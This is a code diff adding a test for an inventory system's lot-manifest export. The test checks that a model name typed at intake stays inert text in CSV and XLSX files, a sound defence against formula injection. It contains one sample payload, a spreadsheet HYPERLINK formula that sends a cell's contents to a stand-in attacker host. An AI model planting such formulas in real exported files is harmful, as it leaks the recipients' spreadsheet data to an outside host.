@@ -164,3 +164,23 @@ def test_an_other_item_that_can_hold_data_is_data_bearing(ctx) -> None:
     dock = unit(ctx, "other", "Dock")
     grading.record(ctx, dock, {"power": "works", "condition": "new", "complete": "complete", "storage": "none"})
     assert disposition.assign(ctx, dock).route == "return_to_stock"
+
+
+def test_manifest_free_text_never_becomes_a_live_formula(ctx, tmp_path: Path) -> None:
+    # A buyer opens the manifest in a spreadsheet: a model typed at intake must stay text.
+    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    lot = lots.create(ctx, "LOT-HOSTILE-1")
+    uid = _graded_phone(ctx, "356938035643809", model=hostile)
+    lots.add(ctx, lot.code, uid)
+    lot_manifest.export(ctx, lot.code, "csv", tmp_path / "m.csv")
+    with (tmp_path / "m.csv").open(newline="") as fh:
+        row = next(csv.DictReader(fh))
+    assert row["Model"] == "'" + hostile  # OWASP's leading apostrophe
+    assert row["Expected value"] == "" or not row["Expected value"].startswith("'")  # numbers are not touched
+
+    lot_manifest.export(ctx, lot.code, "xlsx", tmp_path / "m.xlsx")
+    ws = load_workbook(tmp_path / "m.xlsx")["Manifest"]
+    header = [c.value for c in ws[1]]
+    model = ws.cell(2, header.index("Model") + 1)
+    assert (model.value, model.data_type) == (hostile, "s")
+    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)
